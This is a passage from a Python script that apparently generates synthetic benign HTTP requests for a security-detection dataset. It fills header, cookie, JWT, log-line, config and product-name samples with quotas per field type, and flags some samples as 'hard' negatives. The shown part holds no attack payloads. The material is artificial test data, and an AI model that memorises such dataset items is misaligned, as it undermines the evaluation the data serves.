            'AssertionConsumerServiceURL="https://app.orbitcrm.io/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.orbitcrm.io</saml:Issuer></samlp:AuthnRequest>'
            % (hexs(32), R.randint(0, 59))
        )
        out.append(B(b64(co.compress(xml.encode()) + co.flush()), hard=True, only={"query"}, role="saml"))
    for i in range(4):
        sess = (
            b64u(json.dumps({"user_id": R.randint(1, 99999), "_fresh": True, "csrf": hexs(16)}, separators=(",", ":")))
            + "."
            + b64u(struct.pack(">I", epoch()))
            + "."
            + b64u(rbytes(20))
        )
        out.append(
            B(sess, hard=(i % 2 == 0), only={"cookie"}, role="session", ck=R.choice(["session", "__Host-session"]))
        )
    for i in range(3):
        rails = (
            quote(b64(json.dumps({"session_id": hexs(32), "_csrf_token": b64(rbytes(32))})), safe="") + "--" + hexs(40)
        )
        out.append(B(unquote(rails), hard=True, only={"cookie"}, role="session", ck="_shop_session"))
    for i in range(4):
        out.append(B("sha-256=" + b64(rbytes(32)), only={"header"}, hdr="Digest", role="digest"))
    for i in range(2):
        out.append(B(b64(rbytes(16)), only={"header"}, hdr="Content-MD5", role="digest"))
    out.append(B("crc32c=%s,md5=%s" % (b64(rbytes(4)), b64(rbytes(16))), hard=True, only={"header"}, hdr="X-Goog-Hash"))
    for i in range(4):
        out.append(B(b64u(json.dumps({"after": "ord_" + alnum(10), "dir": "next"})), only={"query"}, role="cursor"))
    for i in range(3):
        out.append(B(b64(rbytes(R.randint(32, 64))), hard=True, only={"json", "form"}, role="webauthn"))
    ics = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Sprint review\r\nDTSTART:20261210T090000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    out.append(B(b64(ics), only={"json", "multipart", "xml"}, role="ics"))
    out.append(B(b64("name,email\nDana,dana@corpmail.net\n"), only={"json", "form", "multipart"}, role="csv"))
    return out


# ---- benign_jwt -----------------------------------------------------------
def jwt_items():
    out = []
    h = pick_host()
    idt = lambda extra=None: make_jwt(
        h,
        dict(
            {
                "name": R.choice(["Seán O'Brien", "Dana Whitfield", "李伟", "Zoë Brontë"]),
                "email": "%s@corpmail.net" % R.choice(FIRST),
                "email_verified": True,
                "picture": "https://cdn.%s/avatars/%s.png" % (base_domain(h), hexs(8)),
                "nonce": alnum(22),
                "auth_time": epoch(),
            },
            **(extra or {}),
        ),
        alg="RS256",
    )
    at = lambda extra=None: make_jwt(h, extra)
    for i in range(12):
        tok = at(
            {"https://%s/roles" % base_domain(h): R.sample(["admin", "editor", "viewer", "billing"], 2)}
            if i % 3 == 0
            else None
        )
        out.append(B("Bearer " + tok, hard=(i % 4 == 0), only={"header"}, hdr="Authorization"))
    for i in range(4):
        out.append(
            B(
                idt(),
                hard=True,
                only={"header"},
                hdr=R.choice(["X-Amzn-Oidc-Data", "Cf-Access-Jwt-Assertion", "X-Id-Token", "X-Goog-Iap-Jwt-Assertion"]),
            )
        )
    for i in range(14):
        out.append(
            B(
                at() if i % 2 else idt(),
                hard=(i % 3 == 0),
                only={"cookie"},
                ck=R.choice(["access_token", "id_token", "__session", "CF_Authorization", "auth._token.local", "jwt"]),
            )
        )
    for i in range(10):
        out.append(
            B(
                idt() if i % 2 else at({"refresh": True}),
                hard=(i % 3 == 1),
                only={"json"},
                field=R.choice(["id_token", "access_token", "token", "credential", "refresh_token"]),
            )
        )
    for i in range(6):
        assertion = make_jwt(
            h,
            {
                "iss": "svc-reporting@%s" % base_domain(h),
                "sub": "svc-reporting@%s" % base_domain(h),
                "aud": "https://auth.%s/oauth/token" % base_domain(h),
                "jti": uuid4(),
            },
            alg="RS256",
        )
        out.append(
            B(
                assertion,
                hard=(i % 2 == 0),
                only={"form"},
                field=R.choice(["assertion", "client_assertion", "subject_token"]),
            )
        )
    for i in range(5):
        out.append(
            B(
                idt() if i % 2 else at(),
                hard=True,
                only={"query"},
                field=R.choice(["token", "id_token_hint", "access_token", "jwt"]),
            )
        )
    # JWE (5 parts)
    for i in range(3):
        jwe = ".".join(
            [
                b64u(json.dumps({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": hexs(8)}, separators=(",", ":"))),
                b64u(rbytes(256)),
                b64u(rbytes(12)),
                b64u(rbytes(R.randint(120, 300))),
                b64u(rbytes(16)),
            ]
        )
        out.append(B(jwe, hard=True, only={"json", "cookie", "form"}, field="encrypted_token", ck="__Secure-enc"))
    return out


# ---- benign_headers -------------------------------------------------------
def header_items():
    hs = [
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            True,
        ),
        ("Accept", "application/vnd.github+json", False),
        ("Accept", "application/json, text/plain;q=0.9, */*;q=0.1", False),
        ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False),
        ("User-Agent", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", False),
        ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", False),
        ("User-Agent", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", True),
        (
            "User-Agent",
            "aws-sdk-go-v2/1.32.6 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/s3#1.71.0",
            True,
        ),
        ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)", False),
        ("User-Agent", "GitHub-Hookshot/8e2f1a7", False),
        ("User-Agent", "python-requests/2.32.3", False),
        (
            "User-Agent",
            "Mozilla/5.0 (Linux; Android 15; SM-S928B Build/AP3A.240905.015; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/489.0.0.52.109;]",
            True,
        ),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko", False),
        ("User-Agent", "curl/8.11.0", False),
        ("User-Agent", "okhttp/4.12.0 (Android 14; Pixel 7) BrightKettle/5.12.0 (build 5120; select)", True),
        ("User-Agent", "Datadog Agent/7.59.0", False),
        ("traceparent", "00-%s-%s-01" % (hexs(32), hexs(16)), False),
        ("tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7", True),
        ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false", True),
        ("X-Forwarded-For", "203.0.113.7, 198.51.100.23, 10.0.3.4", True),
        ("X-Forwarded-For", "2001:db8:85a3::8a2e:370:7334, 172.16.4.20", True),
        ("Forwarded", "for=192.0.2.60;proto=https;by=203.0.113.43", True),
        ("Forwarded", 'for="[2001:db8:cafe::17]:4711";host=api.brightkettle.com', True),
        ("If-None-Match", 'W/"5e15153d-120f"', True),
        ("If-None-Match", '"33a64df551425fcc55e4d42a148795d9f25f89d4", "0815"', True),
        ("If-Modified-Since", "Sat, 07 Dec 2026 08:49:37 GMT", False),
        ("Range", "bytes=0-1023, 4096-8191", False),
        ("Cache-Control", "no-cache, no-store, max-age=0, must-revalidate", False),
        ("Prefer", "return=minimal; handling=lenient", True),
        ("Accept-Encoding", "gzip, deflate, br, zstd", False),
        ("Accept-Language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5", False),
        ("Sec-CH-UA", '"Chromium";v="131", "Google Chrome";v="131", "Not_A Brand";v="24"', True),
        ("Sec-Fetch-Site", "same-origin", False),
        ("X-Requested-With", "XMLHttpRequest", False),
        (
            "Authorization",
            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261207/eu-central-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s"
            % hexs(64),
            True,
        ),
        ("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD", False),
        ("X-Amz-Date", "20261207T101500Z", False),
        ("Stripe-Signature", "t=%d,v1=%s,v0=%s" % (epoch(), hexs(64), hexs(64)), True),
        ("X-Hub-Signature-256", "sha256=" + hexs(64), False),
        ("X-GitHub-Event", "pull_request", False),
        ("X-GitHub-Delivery", uuid4(), False),
        (
            "Signature-Input",
            'sig1=("@method" "@target-uri" "content-digest");created=%d;keyid="test-key-rsa-pss"' % epoch(),
            True,
        ),
        ("Signature", "sig1=:%s:" % b64(rbytes(64)), True),
        ("Content-Digest", "sha-512=:%s:" % b64(rbytes(64)), True),
        (
            "Link",
            '<https://api.orbitcrm.io/v2/deals?page=3>; rel="next", <https://api.orbitcrm.io/v2/deals?page=41>; rel="last"',
            True,
        ),
        ("X-Client-Data", b64(rbytes(24)), False),
        ("DNT", "1", False),
        ("Upgrade-Insecure-Requests", "1", False),
        ("Priority", "u=0, i", False),
        ("X-Datadog-Trace-Id", str(R.randint(10**17, 10**18)), False),
        ("X-B3-TraceId", hexs(32), False),
        ("X-Cloud-Trace-Context", "%s/%d;o=1" % (hexs(32), R.randint(10**15, 10**16)), True),
        ("X-Amzn-Trace-Id", "Root=1-%s-%s;Parent=%s;Sampled=1" % (hexs(8), hexs(24), hexs(16)), True),
        ("Idempotency-Key", uuid4(), False),
        ("X-Correlation-ID", "checkout-%s" % hexs(12), False),
        ("Content-Language", "de-DE, en-CA", False),
        ("Accept-Charset", "utf-8, iso-8859-1;q=0.5", False),
        ("Want-Digest", "sha-256;q=1, sha;q=0.1", False),
        ("X-Shopify-Hmac-Sha256", b64(rbytes(32)), False),
        ("X-Slack-Signature", "v0=" + hexs(64), False),
        ("X-Slack-Request-Timestamp", str(epoch()), False),
        ("Access-Control-Request-Headers", "authorization, content-type, x-request-id", False),
        ("Access-Control-Request-Method", "DELETE", True),
        ("Origin", "null", True),
        ("Referer", "https://www.google.com/", False),
        ("Via", "1.1 vegur, 1.1 varnish (Varnish/7.5), 1.1 d1a2b3c4.cloudfront.net (CloudFront)", True),
        ("X-Real-IP", "10.42.0.17", True),
        ("True-Client-IP", "198.51.100.88", False),
        ("CF-Connecting-IP", "2001:db8::4:20", False),
        ("X-Forwarded-Proto", "https", False),
        ("X-Forwarded-Host", "shop.brightkettle.com", False),
        ("X-Original-Forwarded-For", "203.0.113.99", False),
        ("Early-Data", "1", False),
        ("Device-Memory", "8", False),
        ("Save-Data", "on", False),
        ("X-Api-Version", "2026-10-28", False),
        ("X-Newrelic-Id", "VQcFUlZVGwIBVlJRBQgE", False),
        ("Accept", 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"', True),
    ]
    items = [B(v, hard=hard, only={"header"}, hdr=k) for k, v, hard in hs]
    cookies = [
        (
            "OptanonConsent",
            "isGpcEnabled=0&datestamp=Sat+Dec+07+2026+10:12:44+GMT+0100+(Central+European+Standard+Time)&version=202409.1.0&groups=C0001:1,C0002:0,C0004:0",
            True,
        ),
        ("_ga", "GA1.1.%d.%d" % (R.randint(10**8, 10**9), epoch()), False),
        ("_fbp", "fb.1.%d.%d" % (epoch() * 1000, R.randint(10**8, 10**9)), False),
        (
            "AMCV_3CE5F3D55B1A0C5E0A490D4D@AdobeOrg",
            "179643557|MCIDTS|20429|MCMID|%d|vVersion|5.5.0" % R.randint(10**17, 10**18),
            True,
        ),
        ("ajs_user_id", '"usr_%s"' % alnum(10), True),
        ("euconsent-v2", "CQJ" + alnum(40, string.ascii_letters + string.digits + "-_") + ".YAAAAAAAAAAA", False),
        ("_hjSessionUser_3311", b64(json.dumps({"id": hexs(16), "created": epoch() * 1000, "existing": True})), True),
        ("OptanonAlertBoxClosed", "2026-11-02T10:22:31.114Z", False),
        ("intercom-session-k9x2", b64(rbytes(48)) + "--" + hexs(40), True),
        ("__stripe_mid", uuid4() + hexs(6), False),
        (
            "cart",
            json.dumps({"items": [{"sku": "BK-1001", "q": 2}], "coupon": "SAVE-20%"}, separators=(",", ":")),
            True,
        ),
        ("recently_viewed", "BK-1001|MO-TR2-NVY-10|QF-PEN-0.5", True),
        ("ui_prefs", "theme=dark&density=compact&lang=de", True),
        ("last_path", "/orders?status=open&sort=-created", True),
        ("tz", "America/New_York", False),
        ("consent", '{"necessary":true,"analytics":false,"marketing":false}', True),
    ]
    items += [B(v, hard=hard, only={"cookie"}, ck=k) for k, v, hard in cookies]
    return items


# ---- benign_logs ----------------------------------------------------------
LOGS = [
    B(
        'org.springframework.dao.DuplicateKeyException: PreparedStatementCallback; SQL [INSERT INTO orders (id, customer_id, total) VALUES (?, ?, ?)]; ERROR: duplicate key value violates unique constraint "orders_pkey"\n  Detail: Key (id)=(8812) already exists.\n\tat com.brightkettle.orders.OrderService.place(OrderService.java:142)\n\tat com.brightkettle.orders.OrderController.create(OrderController.java:58)',
        hard=True,
    ),
    B(
        "Traceback (most recent call last):\n  File \"/app/src/worker.py\", line 88, in handle\n    cid = payload['customer_id']\nKeyError: 'customer_id'",
        hard=True,
    ),
    B(
        "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (/app/src/components/OrderList.jsx:27:19)\n    at renderWithHooks (/app/node_modules/react-dom/cjs/react-dom.development.js:15486:18)",
        hard=True,
    ),
    B(
        '203.0.113.7 - - [07/Dec/2026:10:15:32 +0000] "GET /api/v1/orders?status=open&page=2 HTTP/2.0" 200 5123 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"',
        hard=True,
    ),
    B(
        '2026/12/07 10:16:01 [error] 31#31: *4411 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 198.51.100.23, server: api.brightkettle.com, request: "POST /api/v1/checkout HTTP/1.1", upstream: "http://10.0.3.14:8080/api/v1/checkout"',
        hard=True,
    ),
    B(
        "ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'ORDER BY created_at DESC LIMIT 50' at line 1",
        hard=True,
    ),
    B(
        "LOG:  duration: 2345.112 ms  statement: SELECT o.id, o.total FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.country = 'DE' ORDER BY o.created_at DESC LIMIT 100",
        hard=True,
    ),
    B(
        "Warning  BackOff  3m (x14 over 12m)  kubelet  Back-off restarting failed container api in pod api-7d9c8b6f5-x2k4q_shop(6f1c...)"
    ),
    B("Dec 07 10:12:44 web-02 systemd[1]: nginx.service: Main process exited, code=exited, status=1/FAILURE"),
    B(
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: orders-api\ndata:\n  LOG_LEVEL: info\n  FEATURE_FLAGS: "new-checkout,search-v2"\n',
        hard=False,
    ),
    B(
        'services:\n  api:\n    image: registry.brightkettle.com/shop/api:1.42.0\n    command: ["sh", "-c", "npm run migrate && npm start"]\n    environment:\n      - NODE_ENV=production\n',
        hard=True,
    ),
    B(
        "[database]\nhost = db.internal\nport = 5432\nname = orders\n\n[logging]\nlevel = INFO\nfile = /var/log/app/app.log\n",
        hard=True,
    ),
    B(
        "APP_ENV=staging\nDATABASE_URL=postgres://app:changeme@db:5432/app\nREDIS_URL=redis://cache:6379/0\nLOG_LEVEL=debug\n",
        hard=True,
    ),
    B(
        '{"server": {"port": 8080, "timeout_ms": 30000}, "cors": {"origins": ["https://app.brightkettle.com"]}, "db": {"pool": 10}}'
    ),
    B(
        '<Configuration status="WARN">\n  <Properties>\n    <Property name="logDir">${sys:app.home}/logs</Property>\n  </Properties>\n  <Appenders>\n    <RollingFile name="file" fileName="${logDir}/app.log" filePattern="${logDir}/app-%d{yyyy-MM-dd}.log.gz"/>\n  </Appenders>\n</Configuration>',
        hard=True,
    ),
    B(
        "[Sat Dec 07 10:20:11.123456 2026] [php:error] [pid 4412] [client 198.51.100.9:53122] PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in /var/www/html/legacy/db.php:12",
        hard=True,
    ),
    B(
        "Faulting application name: OrderSync.exe, version: 3.2.1.0\nFaulting module name: ntdll.dll, version: 10.0.22621.4541\nFaulting module path: C:\\Windows\\System32\\ntdll.dll",
        hard=True,
    ),
    B(
        "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Acme.Billing.InvoiceService.Generate(Int32 customerId) in C:\\src\\Billing\\InvoiceService.cs:line 88",
        hard=True,
    ),
    B(
        "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.main()\n\t/app/main.go:14 +0x1d\nexit status 2"
    ),
    B(
        "1:M 07 Dec 2026 10:01:02.331 # WARNING Memory overcommit must be enabled! Without it, a background save or replication may fail under low memory condition."
    ),
    B(
        "[2026-12-07T10:05:44,118][WARN ][o.e.c.r.a.DiskThresholdMonitor] [es-node-1] high disk watermark [90%] exceeded on [aB3dE9fG][es-node-1][/usr/share/elasticsearch/data] free: 4.1gb[8.7%]",
        hard=True,
    ),
    B(
        "12-07 10:11:09.553  4411  4411 E AndroidRuntime: FATAL EXCEPTION: main\n12-07 10:11:09.553  4411  4411 E AndroidRuntime: java.lang.IllegalStateException: Fragment not attached to a context."
    ),
    B("Dec  7 03:00:01 backup-01 CRON[2211]: (root) CMD (/usr/local/bin/backup.sh > /dev/null 2>&1)", hard=True),
    B(
        '{"ts":"2026-12-07T10:02:11Z","user":"dana","action":"DELETE","resource":"/api/v1/projects/prj_44","status":204}',
        hard=True,
    ),
    B(
        "Run npm ci && npm test\n> shop@1.42.0 test\n> jest --ci\nPASS src/cart.test.js\nPASS src/checkout.test.js\nTests: 48 passed, 48 total",
        hard=True,
    ),
    B(
        "Msg 245, Level 16, State 1, Line 3\nConversion failed when converting the varchar value 'N/A' to data type int.",
        hard=True,
    ),
    B('ORA-00942: table or view does not exist\nORA-06512: at "BILLING.INVOICE_PKG", line 214', hard=True),
    B("bash: line 1: jq: command not found\nError: Process completed with exit code 127.", hard=True),
    B(
        "* Connected to api.lumenpay.io (203.0.113.40) port 443\n> POST /v1/charges HTTP/2\n> Host: api.lumenpay.io\n> content-type: application/json\n< HTTP/2 402\n< request-id: req_8Hk2",
        hard=True,
    ),
    B("WARN  [main] o.h.e.j.s.SqlExceptionHelper - SQL Error: 0, SQLState: 23505"),
    B(
        '2026-12-07 10:14:02,551 INFO  [http-nio-8080-exec-7] c.b.s.AuthFilter - login ok user=dana.whitfield ip=198.51.100.23 ua="Mozilla/5.0"'
    ),
    B(
        "E1207 10:15:32.118  1 reflector.go:158] k8s.io/client-go/informers/factory.go:160: Failed to watch *v1.Pod: the server has asked for the client to provide credentials"
    ),
    B(
        "fatal: unable to access 'https://git.stackforge.dev/shop/api.git/': SSL certificate problem: unable to get local issuer certificate"
    ),
    B(
        'Exception in thread "main" java.lang.OutOfMemoryError: Java heap space\n\tat java.base/java.util.Arrays.copyOf(Arrays.java:3541)'
    ),
    B(
        "[ERROR] Failed to execute goal org.apache.maven.plugins:maven-surefire-plugin:3.5.2:test (default-test) on project orders: There are test failures.",
        hard=True,
    ),
    B('sqlite3.OperationalError: near "order": syntax error\n  query: SELECT id, order FROM items WHERE 1', hard=True),
    B('nginx: [emerg] unknown directive "proxy_pas" in /etc/nginx/conf.d/default.conf:14', hard=True),
    B(
        '{"level":"error","msg":"template render failed","template":"Hi {{first_name}}","err":"missing key first_name"}',
        hard=True,
    ),
    B(
        "Caused by: java.net.ConnectException: Connection refused (Connection refused)\n\tat java.base/sun.nio.ch.Net.pollConnect(Native Method)"
    ),
    B(
        "worker_processes auto;\nevents { worker_connections 1024; }\nhttp {\n  server {\n    listen 80;\n    location / { proxy_pass http://app:8080; }\n  }\n}",
        hard=True,
    ),
    B(
        "[mysqld]\nbind-address = 0.0.0.0\nmax_connections = 500\nslow_query_log = 1\nslow_query_log_file = /var/log/mysql/slow.log",
        hard=True,
    ),
    B("Uncaught (in promise) DOMException: The play() request was interrupted by a call to pause()."),
    B(
        "warning: LF will be replaced by CRLF in src/index.js.\nThe file will have its original line endings in your working directory"
    ),
    B(
        "PowerShell: Get-Service : Cannot find any service with service name 'W3SVC'.\nAt line:1 char:1\n+ Get-Service W3SVC",
        hard=True,
    ),
    B(
        "2026-12-07T10:21:00.000Z WARN payments: webhook signature mismatch for evt_1QF (expected v1, got none); retry 2/5"
    ),
]

# ---- benign_commerce ------------------------------------------------------
COMMERCE = [
    B("Sinéad O'Neil", hard=True, kind="name"),
    B("D'Angelo Rossi-Bianchi", hard=True, kind="name"),
    B("Mary-Kate O'Brien", hard=True, kind="name"),
    B("José Ñúñez", kind="name"),
    B("Zoë Brontë-Smith", kind="name"),
    B("1200 Main St #4B", hard=True, kind="address"),
    B("Apt. #12, 55 Rue de l'Église", hard=True, kind="address"),
    B("P.O. Box 3310", kind="address"),
    B("4/17 Harbour Rd", kind="address"),
    B("Flat 3, 22 O'Connell St.", hard=True, kind="address"),
    B("c/o Union Square Café, 101 E 19th St", hard=True, kind="address"),
    B("AT&T Prepaid SIM Kit", hard=True, kind="product"),
    B("5' 10\" Floor Lamp", hard=True, kind="product"),
    B("100% Cotton Tee (Men's) – Navy", hard=True, kind="product"),
    B("Ben & Jerry's Chunky Monkey 16 oz", hard=True, kind="product"),
    B("Levi's® 501® Original Fit", hard=True, kind="product"),
    B("M&M's Peanut — 2 lb bag", hard=True, kind="product"),
    B("Size 10½ Wide", kind="product"),
    B("Dolce & Gabbana Light Blue EDT 100ml", hard=True, kind="product"),
    B("L'Oréal Paris Revitalift", hard=True, kind="product"),
    B("3/4\" Plywood Sheet 4'x8'", hard=True, kind="product"),
    B("Select Comfort Pillow", hard=True, kind="product"),
    B("Union Jack Mug", hard=True, kind="product"),
    B("Drop-Leaf Dining Table", hard=True, kind="product"),
    B("Script Font Wedding Invitations (50-pack)", hard=True, kind="product"),
    B('TV Stand for 55"-65" TVs', hard=True, kind="product"),
    B("Kids' Rain Boots (Sz 11-12)", hard=True, kind="product"),
    B("Mac & Cheese Family Size", hard=True, kind="product"),
    B("Coffee Beans — Ethiopia Yirgacheffe #2", kind="product"),
    B("Château Margaux 2015 (750 ml)", kind="product"),
    B("Wool Socks 3-Pack | Grey", kind="product"),
    B("SAVE-20%", hard=True, kind="coupon"),
    B("BOGO_2026", kind="coupon"),
    B("WELCOME10", kind="coupon"),
    B("FREESHIP+GIFT", hard=True, kind="coupon"),
    B("XMAS#2026", hard=True, kind="coupon"),
    B("VIP-O'NEIL", hard=True, kind="coupon"),
    B("Happy b-day! <3 — love, Mom & Dad", hard=True, kind="note"),
    B("To: Sam; From: Alex — 'Merry Xmas!'", hard=True, kind="note"),
    B("Leave at back door; gate code #1234*", hard=True, kind="note"),
    B("Please select the gift-wrap option (red & gold).", hard=True, kind="note"),
    B("Drop it with the neighbour at no. 12 if I'm out :)", hard=True, kind="note"),
    B("No rush — any time between 9 & 5 works.", kind="note"),
    B("1,299.00", kind="price"),
    B("19.99", kind="price"),
    B("49,90 €", kind="price"),
    B("2 x 6-pack", kind="qty"),
    B("ben-and-jerrys-chunky-monkey-16-oz", kind="slug"),
    B("levis-501-original-fit-32x34", kind="slug"),
    B("at-t-prepaid-sim-kit", kind="slug"),
    B("Nordlys Parka (Women's) – XS/S", hard=True, kind="product"),
    B("Order for the Smith & Sons, LLC office", hard=True, kind="note"),
    B("VAT ID: DE123456789; PO #4500012345", hard=True, kind="note"),
]


# ---------------------------------------------------------------------------
# benign contexts and quotas
# ---------------------------------------------------------------------------

API_READ_PATHS = [
    "/api/v1/me",
    "/api/v2/orders",
    "/api/v1/projects",
    "/api/v1/notifications",
    "/api/v3/catalog/items",
    "/api/v1/invoices",
    "/dashboard",
    "/api/v1/reports/summary",
    "/api/v2/tickets",
    "/graphql",
]

BENIGN = {
    "benign_api_json": dict(
        items=api_json_items,
        quotas={"json": 48, "json_key": 4, "query": 8, "path": 6, "form": 5, "xml": 5, "multipart": 4},
        ctx={
            "json": [C("/api/v1/objects", "data")],
            "query": [C("/api/v1/objects", "q")],
            "path": [C("/api/v1/objects", "x")],
            "form": [C("/v1/customers", "description", b={"email": "dana.whitfield@corpmail.net"})],
            "xml": [C("/api/v1/orders", "note", b={"id": "8812", "status": "confirmed"})],
            "multipart": [C("/api/v1/uploads", "metadata", mpfile=TXT_FILES[1])],
            "json_key": [C("/api/v1/webhooks/wh_22", "x", jk="subscriptions", jk_val=True, method="PATCH")],
        },
    ),
    "benign_filters": dict(
        items=lambda: FILTERS,
        quotas={
            "query": 34,
            "query_key": 12,
            "json": 13,
            "json_key": 3,
            "form": 6,
            "cookie": 3,
            "xml": 3,
            "multipart": 2,
            "header": 2,
            "path": 2,
        },
        ctx={
            "query": [C("/api/v1/search", "q")],
            "query_key": [C("/api/v1/items", "x")],
            "json": [C("/api/v1/search", "filter")],
            "json_key": [C("/api/v1/search", "x")],
            "form": [C("/reports/builder/preview", "expression", b={"report": "rep_118"})],
            "cookie": [C("/reports", "x")],
            "xml": [C("/api/v1/saved-searches", "expression", b={"name": "My open items"})],
            "multipart": [C("/api/v1/saved-searches", "expression", b={"name": "Q4 pipeline"})],
            "header": [C("/api/v1/records", "x")],
            "path": [C("/api/search", "x")],
        },
    ),
    "benign_templates": dict(
        items=lambda: TEMPLATES,
        quotas={"json": 40, "form": 14, "multipart": 12, "xml": 8, "query": 6},
        ctx={
            "json": [
                C(
                    "/api/v1/notifications/templates",
                    "body",
                    b={"name": "order-shipped", "channel": "email", "locale": "en"},
                ),
                C(
                    "/api/v2/email-templates/tmpl_4411",
                    "html_body",
                    b={"subject": "Your order has shipped"},
                    method="PUT",
                ),
                C("/api/sms/templates", "text", b={"sender_id": "BKETTLE"}),
                C("/api/v1/push/campaigns", "message", b={"segment": "vip", "schedule": "2026-12-10T09:00:00Z"}),
                C(
                    "/admin/api/2026-10/themes/1288/assets.json",
                    "value",
                    b={"key": "templates/customers/order.liquid"},
                    jwrap=["asset"],
                    method="PUT",
                ),
                C(
                    "/api/v1/workflows/wf_77/steps/send-email",
                    "template",
                    b={"from": "noreply@brightkettle.com"},
                    method="PATCH",
                ),
            ],
            "form": [
                C(
                    "/admin/settings/notifications/order_confirmation",
                    "template_body",
                    b={"subject": "Order confirmation", "enabled": "1"},
                ),
                C("/cms/templates/save", "content", b={"name": "welcome", "engine": "handlebars"}),
            ],
            "multipart": [
                C(
                    "/api/v1/templates/import",
                    "template",
                    b={"engine": "liquid"},
                    mpmode="content",
                    mpname="file",
                    mpct="text/plain",
                ),
                C("/api/v1/templates", "body", b={"name": "invoice-footer"}),
            ],
            "xml": [
                C("/api/v1/notifications/templates", "body", root="template", b={"name": "reminder", "channel": "sms"})
            ],
            "query": [C("/api/v1/templates/preview", "template", q={"locale": "en", "sample": "true"})],
        },
    ),
    "benign_code": dict(
        items=code_items,
        quotas={"json": 42, "multipart": 14, "form": 12, "xml": 6, "query": 6},
        ctx={
            "json": [
                C("/api/v1/snippets", "content", b={"title": "helper", "visibility": "private"}),
                C("/gists", "content", jwrap=[("files", ("description", "Deploy helper")), "snippet"]),
                C("/api/v1/docs/pages/441/blocks", "code", b={"type": "code"}),
                C("/api/notebooks/nb_22/cells", "source", b={"cell_type": "code", "execution_count": None}),
                C("/api/v2/answers", "code_sample", b={"question_id": 88121}),
            ],
            "form": [
                C("/paste", "code", b={"expiry": "1w", "title": "untitled"}),
                C("/wiki/edit/DeployNotes", "text", b={"summary": "add example"}),
            ],
            "multipart": [C("/api/v1/snippets/upload", "file", mpmode="content", mpname="file", mpct="text/plain")],
            "xml": [C("/xmlrpc/snippets", "code", root="snippet", b={"visibility": "team"})],
            "query": [C("/api/v1/highlight", "code", q={"theme": "github"})],
        },
    ),
    "benign_markdown": dict(
        items=lambda: MARKDOWN,
        quotas={"json": 42, "form": 14, "multipart": 12, "xml": 6, "query": 6},
        ctx={
            "json": [
                C("/api/v1/issues/4471/comments", "body"),
                C("/repos/stackforge/cli/releases", "body", b={"tag_name": "v2.4.1", "name": "2.4.1"}),
                C("/api/v2/docs/pages/getting-started", "markdown", method="PUT"),
                C("/api/v1/posts", "content_md", b={"title": "Weekly update"}),
                C("/api/v1/pull-requests/221/reviews", "body", b={"event": "COMMENT"}),
            ],
            "form": [
                C("/issues/new", "issue[body]", b={"issue[title]": "Crash on export"}),
                C("/wiki/Home/edit", "content", b={"message": "update"}),
            ],
            "multipart": [
                C("/api/v1/docs/import", "file", mpmode="content", mpname="file", mpct="text/markdown"),
                C("/api/v1/issues", "body", b={"title": "Docs update"}),
            ],
            "xml": [C("/api/v1/wiki/import", "content", root="page", b={"title": "Runbook"})],
            "query": [C("/api/markdown/preview", "text", q={"mode": "gfm"})],
        },
    ),
    "benign_richtext": dict(
        items=lambda: RICH,
        quotas={"json": 44, "form": 18, "multipart": 10, "xml": 8},
        ctx={
            "json": [
                C("/api/v1/newsletters", "html", b={"subject": "December update"}),
                C("/api/v2/pages/about", "body_html", method="PUT"),
                C("/wp-json/wp/v2/posts", "content", b={"title": "Holiday hours", "status": "draft"}),
                C("/api/v1/kb/articles", "content", b={"locale": "en", "category": "shipping"}),
                C("/api/v1/emails/drafts", "html_body", b={"to": ["team@corvid-systems.net"]}),
            ],
            "form": [
                C("/admin/cms/page/save", "body", b={"page_id": "88"}),
                C("/wp-admin/post.php", "content", b={"post_title": "Winter sale", "action": "editpost"}),
            ],
            "multipart": [
                C("/api/v1/emails/draft", "html_body", b={"to": "team@corvid-systems.net"}, mpfile=TXT_FILES[0])
            ],
            "xml": [C("/api/v1/content/import", "body", root="article", b={"title": "Holiday hours"})],
        },
    ),
    "benign_prose": dict(
        items=lambda: PROSE,
        quotas={"json": 30, "json_key": 4, "form": 16, "query": 12, "multipart": 8, "xml": 6, "path": 2, "cookie": 2},
        ctx={
            "json": [
                C("/api/v1/products/BK-1001/reviews", "text", b={"rating": 5}),
                C("/api/v2/support/messages", "message", b={"ticket_id": "T-5512"}),
                C("/api/v1/orders/8812/notes", "note"),
                C("/api/chat/messages", "text", b={"room": "general"}),
                C("/api/v1/feedback", "comment", b={"nps": 9}),
            ],
            "form": [
